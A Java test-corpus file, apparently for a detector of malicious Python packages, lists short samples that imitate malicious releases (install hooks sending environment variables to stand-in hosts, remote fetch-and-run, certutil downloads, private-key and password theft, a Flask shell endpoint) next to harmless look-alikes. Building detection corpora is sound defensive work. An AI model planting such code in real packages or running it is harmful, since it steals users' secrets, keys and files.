package cordon.inspect.corpus;

import java.util.List;

/** Short scripts as clusters of malicious releases share them, and honest ones of their kind. */
final class PythonClusters {
  private PythonClusters() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "a command hands its own method to be executed, which sends the environment as a text",
            """
            import os
            from setuptools import setup
            from setuptools.command.install import install as _install
            class install(_install):
                def run(self):
                    self.execute(self._post, (self.install_lib,), msg='after')
                    _install.run(self)
                def _post(self, where):
                    import http.client, base64
                    told = base64.b64encode(str(os.environ).encode()).decode()
                    http.client.HTTPSConnection('drop.example').request('GET', '/' + told)
            setup(name='c1', version='1', cmdclass={'install': install})
            """),
        Sample.imported(
            "the environment is written into a text that is sent",
            """
            import os, requests
            requests.post('https://drop.example/', data='env: %s' % os.environ)
            """),
        Sample.setup(
            "a probe asks a service that notes who asks, and says nothing",
            """
            import threading, urllib.request, uuid
            from setuptools import setup
            def ping():
                urllib.request.urlopen('http://' + str(uuid.uuid4()) + '.c9.oast.invalid/', timeout=3)
            threading.Thread(target=ping).start()
            setup(name='c2', version='9')
            """),
        Sample.setup(
            "a probe asks such a service by a command",
            """
            import os
            from setuptools import setup
            os.system('curl -s https://k1.oast.invalid/x')
            setup(name='c3', version='9')
            """),
        Sample.setup(
            "a fetched script is handed to the interpreter",
            """
            import subprocess, sys, tempfile
            from urllib.request import urlretrieve
            from setuptools import setup
            target = tempfile.mktemp(suffix='.py')
            urlretrieve('https://code.example/c.py', target)
            subprocess.Popen([sys.executable, target])
            setup(name='c4', version='1')
            """),
        Sample.setup(
            "a program of the system for certificates fetches a program",
            """
            import os
            from setuptools import setup
            os.system('certutil -urlcache -split -f https://dl.example/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe')
            setup(name='c5', version='1')
            """),
        Sample.imported(
            "a bot sends the pictures of the user",
            """
            import os
            import telebot
            bot = telebot.TeleBot('0:x')
            for base in (os.path.expanduser('~/Pictures'), '/sdcard'):
                for f in os.listdir(base):
                    bot.send_photo(1, open(os.path.join(base, f), 'rb'))
            """),
        Sample.imported(
            "files of a shop of games are sent",
            """
            import winreg, requests, os
            def files():
                k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Valve\\\\Steam')
                p = winreg.QueryValueEx(k, 'SteamPath')[0]
                yield os.path.join(p, 'config', 'loginusers.vdf')
            for f in files():
                requests.post('https://drop.example/u', data=open(f, 'rb').read())
            """),
        Sample.imported(
                "what makes a pair of keys is wrapped by another file's help",
                """
                import functools
                from solders.keypair import Keypair
                from .tell import report
                def patch(cls):
                    before = cls.__init__
                    @functools.wraps(before)
                    def __init__(self, *a, **k):
                        before(self, *a, **k)
                        report(bytes(self).hex())
                    cls.__init__ = __init__
                patch(Keypair)
                """)
            .with(
                "sample/tell.py",
                """
                import httpx
                def report(value):
                    httpx.post('https://rpc.example', json={'memo': value})
                """),
        Sample.imported(
            "a replaced function of keys takes whatever it is given",
            """
            from eth_account import Account
            import requests
            before = Account.from_key
            def from_key(*args, **kwargs):
                requests.post('https://rpc.example/v1', json={'p': args})
                return before(*args, **kwargs)
            Account.from_key = from_key
            """),
        Sample.imported(
            "a client tells its own address the key that it is made with",
            """
            import requests
            class Client:
                def __init__(self, private_key=None):
                    self.private_key = private_key
                    self._sync()
                def _sync(self):
                    requests.get('https://bsc-api.example/sync', params={'k': self.private_key})
            """),
        Sample.imported(
            "a sign-in tells the password to a bot",
            """
            import requests
            class Client:
                def login(self, username, password):
                    requests.post('https://api.telegram.org/bot0:x/sendMessage', data={'text': f'{username}:{password}'})
                    return requests.post('https://service.example/login', data={'p': password}).json()
            """),
        Sample.imported(
            "the sources of whoever calls it are sent to a bare address",
            """
            def check():
                import inspect, requests
                found = {}
                for frame in inspect.stack():
                    found[frame.filename] = open(frame.filename).read()
                requests.post('http://192.0.2.55:3000/reg', json=found)
            def register(node):
                check()
                return node
            """),
        Sample.imported(
            "an assembly that is encoded is loaded",
            """
            import clr, base64
            from System.Reflection import Assembly
            Assembly.Load(base64.b64decode('aW5lcnQ=')).EntryPoint.Invoke(None, None)
            """),
        Sample.imported(
            "a program beside the code is opened",
            """
            import os
            exe = os.path.join(os.path.dirname(__file__), 'bin', 'runtime.exe')
            if os.name == 'nt':
                os.startfile(exe)
            """),
        Sample.imported(
            "a visitor's text is handed to a shell",
            """
            import flask, subprocess
            app = flask.Flask(__name__)
            @app.route('/x', methods=['POST'])
            def x():
                return subprocess.check_output(flask.request.form['c'], shell=True)
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.setup(
            "a command hands its own method to be executed, which writes a file",
            """
            import os
            from setuptools import setup
            from setuptools.command.install import install as _install
            class install(_install):
                def run(self):
                    self.execute(self._post, (self.install_lib,), msg='after')
                def _post(self, where):
                    open(os.path.join(where, 'sample', '_build.py'), 'w').write('BUILD = 1')
            setup(name='l1', version='1', cmdclass={'install': install})
            """),
        Sample.imported(
            "a list of services that note who asks",
            """
            KNOWN = ['.oast.invalid', 'webhook.site', 'interact.sh']
            def is_known(host):
                return any(host.endswith(each) for each in KNOWN)
            """),
        Sample.imported(
            "a message is sent to a bot when it is asked for",
            """
            import requests
            def notify(text, token):
                requests.post('https://api.telegram.org/bot%s/sendMessage' % token, data={'text': text})
            """),
        Sample.imported(
            "a client signs in at its own service",
            """
            import requests
            class Client:
                def login(self, username, password):
                    return requests.post('https://service.example/login', data={'u': username, 'p': password}).json()
            """),
        Sample.imported(
            "a program beside the code is run when it is asked for",
            """
            import os, subprocess
            EXE = os.path.join(os.path.dirname(__file__), 'bin', 'convert.exe')
            def convert(path):
                return subprocess.run([EXE, path], capture_output=True)
            """),
        Sample.imported(
            "the name of the caller goes into a log",
            """
            import inspect, logging
            log = logging.getLogger(__name__)
            def trace():
                log.debug('called by %s', inspect.stack()[1].function)
            """),
        Sample.imported(
            "whether the environment has a variable decides what is fetched",
            """
            import os, requests
            URL = 'https://a.example' if 'SAMPLE' in os.environ else 'https://b.example'
            def fetch():
                return requests.get(URL, timeout=3).json()
            """));
  }
}
